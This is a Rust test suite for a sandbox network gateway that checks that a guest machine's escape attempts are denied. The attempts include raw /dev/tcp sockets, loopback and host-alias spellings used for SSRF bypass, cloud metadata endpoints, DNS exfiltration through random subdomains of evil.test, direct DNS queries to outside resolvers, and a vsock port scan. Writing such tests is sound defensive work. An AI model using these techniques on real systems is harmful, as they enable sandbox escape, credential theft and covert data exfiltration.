//! Ways around the gateway, from inside a real machine.

use std::net::UdpSocket;

use super::rig::{PROXY, shared};

/// An address of nobody's, for documentation. Nothing is ever sent there.
const NOBODY: &str = "203.0.113.9";

#[test]
fn a01_a_raw_socket_to_an_address_gets_nowhere() {
    let shared = shared();
    let script = format!("exec 3<>/dev/tcp/{NOBODY}/443; echo hello >&3; timeout 10 cat <&3; echo ended $?");
    assert_eq!(shared.guest(&script).stdout, "ended 0\n", "the connection is closed, and not left open");
    let event = shared.last_event(&format!("{NOBODY}:443"));
    assert_eq!(
        (event["decision"].as_str(), event["reason"].as_str()),
        (Some("deny"), Some("no_name_binding"))
    );
}

#[test]
fn a02_an_address_in_a_url_is_no_name() {
    let shared = shared();
    let straight = shared.curl(&format!("-k https://{NOBODY}/a02"));
    assert!(straight.starts_with("403"), "{straight}");
    assert_eq!(shared.last_event("/a02")["reason"], "ip_literal");
    let proxied = shared.curl(&format!("-k {PROXY} https://{NOBODY}/a02-proxied"));
    assert!(proxied.starts_with("403"), "{proxied}");
    assert_eq!(shared.last_event("/a02-proxied")["reason"], "ip_literal");
}

#[test]
fn a04_an_allowed_host_is_allowed_on_its_port_only() {
    let shared = shared();
    for port in [22, 25, 5432, 8080, 65535] {
        let script = format!("exec 3<>/dev/tcp/api.test/{port}; echo hello >&3; timeout 10 cat <&3");
        assert_eq!(shared.guest(&script).stdout, "", "port {port}");
        let event = shared.last_event(&format!("api.test:{port}"));
        assert_eq!(
            (event["decision"].as_str(), event["reason"].as_str()),
            (Some("deny"), Some("port")),
            "{event:#}"
        );
    }
    shared.nothing_leaked();
    assert!(shared.curl("https://api.test/").starts_with("200"));
}

#[test]
fn a05_udp_is_refused_at_once() {
    let script = "for port in 53000 443 123; do timeout 5 perl -MIO::Socket::INET -e '
        my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Proto => \"udp\") or die;
        send($s, \"x\", 0); my $n = recv($s, my $b, 9, 0); print defined $n ? \"answer\" : \"$!\", \"\\n\"' \
        203.0.113.9 $port; done";
    assert_eq!(shared().guest(script).ok(), "Connection refused\n".repeat(3));
}

#[test]
fn a10_no_alias_of_the_host_leads_to_it() {
    let shared = shared();
    let host = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
        // Routing tells the address that this host has; nothing is sent.
        socket.connect((NOBODY, 9))?;
        socket.local_addr()
    });
    let own = host.map(|address| address.ip().to_string()).unwrap_or_else(|_| "10.0.2.2".to_owned());
    let aliases = [
        "gateway.cofferdam.internal",
        "host.docker.internal",
        "gateway.docker.internal",
        "host.containers.internal",
        "host.internal",
        "model.host.internal",
        "localhost",
        "127.0.0.1",
        "198.18.0.1",
        "10.0.2.2",
        "172.17.0.1",
        &own,
    ];
    let ports = [shared.evil.address.port(), shared.plain.address.port(), 22, 5432];
    let each = |alias: &&str| ports.map(|port| format!("http://{alias}:{port}/a10"));
    let urls: Vec<_> = aliases.iter().flat_map(each).collect();
    for by_proxy in [false, true] {
        for (url, status) in shared.statuses(by_proxy, &urls) {
            assert!(!(200..300).contains(&status), "{url} by proxy {by_proxy}: {status}");
        }
    }
    assert!(!shared.plain.received("/a10"), "a server of the host's loopback was reached");
    shared.nothing_leaked();
    // By its name, which a rule allows, the same server answers.
    assert!(shared.curl("http://plain.test/").starts_with("200 reached"));
}

#[test]
fn a11_metadata_services_are_closed_whatever_a_rule_says() {
    let (shared, home) = (shared(), &shared().home);
    let places = [
        "169.254.169.254",
        "100.100.100.200",
        "168.63.129.16",
        "metadata.google.internal",
        "[fd00:ec2::254]",
    ];
    let urls = places.map(|place| format!("http://{place}/a11"));
    for by_proxy in [false, true] {
        for (url, status) in shared.statuses(by_proxy, &urls) {
            assert!(!(200..300).contains(&status), "{url} by proxy {by_proxy}: {status}");
        }
    }
    for place in places {
        assert_eq!(home.run(&["policy", "check", "network", &format!("{place}:80")]).code, 4, "{place}");
    }
    assert_eq!(shared.last_event("metadata.google.internal/a11")["rule"]["id"], "floor.metadata");
    let lifted = home.run(&["policy", "allow", "network", "metadata.google.internal:80", "--sandbox", "dev"]);
    assert_eq!(lifted.code, 4, "{lifted:#?}");
    assert!(shared.curl("http://metadata.google.internal/a11").starts_with("403"));
    shared.nothing_leaked();
}

#[test]
fn a12_no_spelling_of_the_hosts_loopback_leads_to_it() {
    let shared = shared();
    let spellings = [
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "0x7f.1",
        "127.1",
        "0",
        "0.0.0.0",
        "[::]",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[fe80::1%25lo]",
        "localhost.",
        "127.0.0.1.",
    ];
    let port = shared.plain.address.port();
    let urls = spellings.map(|spelling| format!("http://{spelling}:{port}/a12"));
    for by_proxy in [false, true] {
        for (url, status) in shared.statuses(by_proxy, &urls) {
            assert!(!(200..300).contains(&status), "{url} by proxy {by_proxy}: {status}");
        }
    }
    // The same question about a name that a rule allows is answered.
    let allowed = ["http://plain.test/".to_owned()];
    for by_proxy in [false, true] {
        assert_eq!(shared.statuses(by_proxy, &allowed)[0].1, 200);
    }
    assert!(!shared.plain.received("/a12"));
}

#[test]
fn b01_names_carry_nothing_out() {
    let shared = shared();
    let script = "for i in 1 2 3 4 5 6 7 8; do \
                  getent ahostsv4 $(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \\n').evil.test | head -1; done";
    let answers = shared.guest(script).ok();
    assert_eq!(answers.lines().count(), 8, "{answers}");
    for line in answers.lines() {
        assert!(line.starts_with("198.18.") || line.starts_with("198.19."), "{line}");
    }
    let denied = shared.curl("https://deadbeef.evil.test/");
    assert!(
        denied.starts_with("403 Blocked by sandbox policy: no rule allows deadbeef.evil.test:443"),
        "{denied}"
    );
    shared.nothing_leaked();
}

#[test]
fn b02_a_question_to_any_resolver_is_answered_by_ours() {
    let shared = shared();
    let ask = r#"
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => 53, Proto => $ARGV[1]) or die "no socket: $!";
my $q = pack("n6", 7, 0x100, 1, 0, 0, 0) . join("", map { pack("C/a*", $_) } split(/\./, $ARGV[2])) . pack("Cnn", 0, 1, 1);
$q = pack("n/a*", $q) if $ARGV[1] eq "tcp";
print $s $q; $s->flush; alarm 10;
sysread($s, my $a, 600); $a = substr($a, 2) if $ARGV[1] eq "tcp";
my ($id, $flags, undef, $answers) = unpack("n4", $a);
print "$answers ", join(".", unpack("C4", substr($a, -4))), "\n";
"#;
    let ours = shared.guest("getent ahostsv4 b02.evil.test | head -1 | cut -d' ' -f1").ok();
    assert!(ours.starts_with("198.1"), "{ours}");
    for resolver in ["8.8.8.8", NOBODY, "127.0.0.53"] {
        let arguments = ["exec", "dev", "--", "perl", "-e", ask, resolver, "udp", "b02.evil.test"];
        assert_eq!(shared.home.run(&arguments).ok(), format!("1 {ours}"), "{resolver}");
    }
    // Over TCP there is no resolver: a connection to an address that was never handed out.
    let arguments = ["exec", "dev", "--", "perl", "-e", ask, "8.8.8.8", "tcp", "b02.evil.test"];
    let tcp = shared.home.run(&arguments);
    assert!(!tcp.stdout.contains("8.8"), "{tcp:#?}");
}

#[test]
fn e15_nothing_of_the_host_listens_but_control_and_egress() {
    let shared = shared();
    let scan = r#"
use Socket;
for my $port (0..1100, 2049, 2375, 2376, 3128, 5000, 8080, 9999, 11434, 22222, 65535, 65536, 4294967294) {
    socket(my $s, 40, SOCK_STREAM, 0) or die "no vsock: $!";
    print "$port\n" if connect($s, pack("SSLLx4", 40, 0, $port, 2));
}
"#;
    let open = shared.home.run(&["exec", "-u", "root", "dev", "--", "perl", "-e", scan]);
    let open: Vec<_> = open.ok().lines().map(str::to_owned).collect();
    assert!(open.iter().all(|port| port == "1" || port == "2") && open.contains(&"2".to_owned()), "{open:?}");
    // No socket file of the host is to be seen in what is shared.
    let sockets = shared.home.guest_root("dev", "find . /data -type s | head");
    assert_eq!(sockets.ok(), "");
}
